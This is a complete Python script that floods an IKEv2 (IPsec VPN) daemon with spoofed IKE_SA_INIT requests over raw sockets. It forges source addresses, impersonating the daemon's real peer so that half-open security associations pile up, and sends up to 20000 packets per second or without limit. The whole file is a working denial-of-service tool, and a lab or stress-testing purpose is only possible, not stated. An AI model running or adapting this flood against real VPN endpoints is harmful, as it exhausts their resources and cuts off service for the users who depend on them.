#!/usr/bin/env python3
"""Send spoofed IKE_SA_INIT requests (RFC 7296) from many source addresses.

Usage: flood_ike.py DST COUNT SPOOF_PEER [RATE] [PROGRESS_EVERY]

Raw IPv4 sockets (IP_HDRINCL): each request has a random initiator SPI, a random
x25519 KE value and nonce, one proposal AES-GCM-16-256 / PRF-HMAC-SHA2-256 /
Curve25519. Every second request comes from a random address in 10.77.0.0/16,
the others from SPOOF_PEER (the address of the daemon's real peer: the only
source for which the daemon has a connection, so the only one that can make
half-open IKE SAs). At most RATE requests a second (default 20000; 0: as fast
as possible). Prints progress lines and a final "sent N in S s".
"""
import os
import random
import socket
import struct
import sys
import time


def payload(next_type, body):
    return struct.pack("!BBH", next_type, 0, 4 + len(body)) + body


def transform(last, ttype, tid, attrs=b""):
    body = struct.pack("!BBH", ttype, 0, tid) + attrs
    return struct.pack("!BBH", 0 if last else 3, 0, 4 + len(body)) + body


def ike_sa_init():
    spi_i = os.urandom(8)
    ts = (
        transform(False, 1, 20, struct.pack("!HH", 0x800E, 256))  # ENCR AES-GCM-16, 256
        + transform(False, 2, 5)  # PRF HMAC-SHA2-256
        + transform(True, 4, 31)  # DH Curve25519
    )
    prop_body = struct.pack("!BBBB", 1, 1, 0, 3) + ts
    prop = struct.pack("!BBH", 0, 0, 4 + len(prop_body)) + prop_body
    sa = payload(34, prop)  # next: KE
    ke = payload(40, struct.pack("!HH", 31, 0) + os.urandom(32))  # next: Nonce
    nonce = payload(0, os.urandom(32))
    body = sa + ke + nonce
    hdr = spi_i + b"\0" * 8 + struct.pack("!BBBBII", 33, 0x20, 34, 0x08, 0, 28 + len(body))
    return hdr + body


def packet(src, dst, data):
    udp = struct.pack("!HHHH", 500, 500, 8 + len(data), 0) + data
    ip = struct.pack(
        "!BBHHHBBH4s4s",
        0x45, 0, 20 + len(udp), random.getrandbits(16), 0, 64, 17, 0,
        socket.inet_aton(src), socket.inet_aton(dst),
    )
    return ip + udp


def main():
    dst, count, peer = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    rate = int(sys.argv[4]) if len(sys.argv) > 4 else 20000
    every = int(sys.argv[5]) if len(sys.argv) > 5 else 10000
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    t0 = time.time()
    sent = 0
    for i in range(count):
        if i % 2 == 0:
            src = "10.77.%d.%d" % (random.randrange(256), random.randrange(1, 255))
        else:
            src = peer
        try:
            s.sendto(packet(src, dst, ike_sa_init()), (dst, 0))
            sent += 1
        except OSError:
            time.sleep(0.001)
        if rate and i % 100 == 99:
            ahead = t0 + (i + 1) / rate - time.time()
            if ahead > 0:
                time.sleep(ahead)
        if (i + 1) % every == 0:
            print("flood: %d/%d sent (%.1f s)" % (i + 1, count, time.time() - t0), flush=True)
    print("sent %d in %.1f s" % (sent, time.time() - t0), flush=True)


if __name__ == "__main__":
    main()
